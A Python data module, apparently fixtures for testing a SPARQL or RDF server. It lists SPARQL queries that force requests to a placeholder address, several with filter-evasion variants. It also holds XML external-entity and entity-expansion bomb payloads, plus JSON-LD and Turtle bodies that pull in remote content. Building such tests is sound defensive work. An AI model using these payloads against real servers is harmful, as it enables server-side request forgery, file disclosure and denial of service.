"""Requests that would make a server reach the network or read a file, with a place for the address."""

from __future__ import annotations

REACHING = [
    "SELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ service silent <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ SeRvIcE\n#comment\n<{url}>{{?s ?p ?o}} }}",
    "SELECT * WHERE {{ BIND(<{url}> AS ?where) SERVICE ?where {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ VALUES ?where {{ <{url}> }} SERVICE SILENT ?where {{ ?s ?p ?o }} }}",
    "PREFIX e: <{url}> SELECT * WHERE {{ SERVICE e: {{ ?s ?p ?o }} }}",
    "PREFIX SERVICE: <{url}> SELECT * WHERE {{ SERVICE SERVICE: {{ ?s ?p ?o }} }}",
    "BASE <{url}> SELECT * WHERE {{ SERVICE <> {{ ?s ?p ?o }} }}",
    "ASK {{ {{ {{ OPTIONAL {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }} }}",
    "ASK {{ FILTER EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ FILTER NOT EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ MINUS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "SELECT (COUNT(*) AS ?n) {{ {{ SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ \\u0053ERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ SERV\\u0049CE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ ?s ?p 'a' SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ ?s ?p '''a' '''SERVICE<{url}>{{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ FILTER(1<2)SERVICE<{url}>{{ ?s ?p ?o }} FILTER(3>2) }}",
    "SELECT * FROM <{url}> WHERE {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <{url}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ GRAPH <{url}> {{ ?s ?p ?o }} }}",
    "DESCRIBE <{url}>",
    "LOAD <{url}>",
    "LOAD SILENT <{url}> INTO GRAPH <http://e/g>",
    "INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "INSERT DATA {{ <http://e/s> <http://e/p> 1 }} ; LOAD <{url}>",
    "ASK {{}} ; LOAD <{url}>",
    "ASK {{}}\nLOAD <{url}>",
]

DOCUMENTS = [
    ("application/ld+json", '{{"@context": "{url}", "@id": "http://e/s", "name": "x"}}'),
    ("application/ld+json", '{{"@context": {{"@import": "{url}"}}, "@id": "http://e/s", "http://e/p": "x"}}'),
    ("application/rdf+xml", '<!DOCTYPE r SYSTEM "{url}"><r/>'),
    (
        "application/rdf+xml",
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]>'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
        '<rdf:Description rdf:about="http://e/s"><e:p>&x;</e:p></rdf:Description></rdf:RDF>',
    ),
    (
        "application/rdf+xml",
        '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY f "&d;&d;&d;&d;&d;&d;&d;&d;">]><r>&f;&f;&f;&f;</r>',
    ),
    ("text/turtle", "@base <{url}> . <> <p> <{url}> ."),
    ("text/turtle", "@prefix owl: <http://www.w3.org/2002/07/owl#> . <> owl:imports <{url}> ."),
]
"""Bodies of graphs with their types. Some are refused, some are plain data that name an address."""
